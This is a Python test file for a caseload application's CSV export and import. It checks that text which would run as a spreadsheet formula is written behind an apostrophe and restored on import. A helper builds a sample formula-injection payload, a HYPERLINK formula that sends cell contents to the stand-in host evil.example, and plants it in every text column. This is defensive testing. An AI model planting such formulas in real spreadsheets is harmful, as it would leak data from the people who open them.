"""Text that a spreadsheet would run as a formula is written behind an apostrophe and read back
without it (exchange-format.md, "Spreadsheet formulas are never carried out")."""

from __future__ import annotations

import csv
from datetime import date
from fractions import Fraction

import pytest
from sqlalchemy import select, update

from caseload.csvcells import FORMULA_STARTS, extract_cell, neutralise, restore
from caseload.exchange.schema import Kind
from caseload.exchange.tables import TARGETS
from caseload.outcomes.employment import EmploymentOutcome, employment_csv
from tests.exchange.test_import import _empty_database, _export, _import
from tests.sample_rows import SAMPLE

TEXT_COLUMNS = [
    (target, column)
    for target in TARGETS
    for column in target.spec.columns
    # the sample has no change of hours to plant into
    if column.kind is Kind.TEXT and target.spec.name != "job_hours.csv"
]


def _formula(k: int, max_length: int) -> str:
    start = FORMULA_STARTS[k % len(FORMULA_STARTS)]
    return (start + 'HYPERLINK("http://evil.example/?d="&A1,"Click")')[:max_length]


def _plant_formulas(db) -> dict[tuple[str, str], str]:
    """Every text column of the first row of each file holds a formula; the values by cell."""
    planted = {}
    for k, (target, column) in enumerate(TEXT_COLUMNS):
        table = target.table
        first = db.session.scalar(select(table.c.id).order_by(*(table.c[c] for c in target.key)))
        value = _formula(k, column.max_length)
        values = {column.name: value}
        if column.name == "void_reason":  # a void's reason comes with its date
            values["voided_on"] = date(2026, 1, 5)
        db.session.execute(update(table).where(table.c.id == first).values(values))
        planted[(target.spec.name, column.name)] = value
    db.session.commit()
    return planted


def test_formula_cells_in_every_text_column_round_trip_and_are_written_behind_an_apostrophe(
    runner, db, tmp_path
):
    assert _import(runner, SAMPLE).exit_code == 0
    planted = _plant_formulas(db)
    first = _export(runner, tmp_path / "first")
    for (name, column), value in planted.items():
        rows = list(csv.DictReader(first[name].decode("utf-8").splitlines(keepends=True)))
        assert rows[0][column] == "'" + value, (name, column)
    _empty_database(db)
    assert _import(runner, tmp_path / "first").exit_code == 0
    for target, column in TEXT_COLUMNS:
        table = target.table
        stored = db.session.scalar(
            select(table.c[column.name]).order_by(*(table.c[c] for c in target.key)).limit(1)
        )
        assert stored == planted[(target.spec.name, column.name)]
    assert _export(runner, tmp_path / "second") == first


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted", "''"])
def test_one_apostrophe_protects_a_formula_and_is_removed_again(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Plain", " =leading space", "a=b", "", "2024-01-01"])
def test_other_text_is_written_as_it_is(text):
    assert neutralise(text) == text


def test_the_employment_extract_neutralises_its_text_cells():
    outcome = EmploymentOutcome(
        client_ref="C-000001",
        trial_arm="=HYPERLINK(1)",
        entry_date=date(2024, 1, 1),
        window_end=date(2024, 12, 31),
        window_complete=True,
        days_employed=3,
        weeks_employed=1,
        hours_worked=Fraction(7),
        days_to_first_job=-1,
    )
    row = employment_csv([outcome]).splitlines()[1]
    assert row.startswith("C-000001,'=HYPERLINK(1),2024-01-01,")
    assert row.endswith(",-1")  # numbers are never prefixed
    assert extract_cell(-1) == -1 and extract_cell(None) == ""
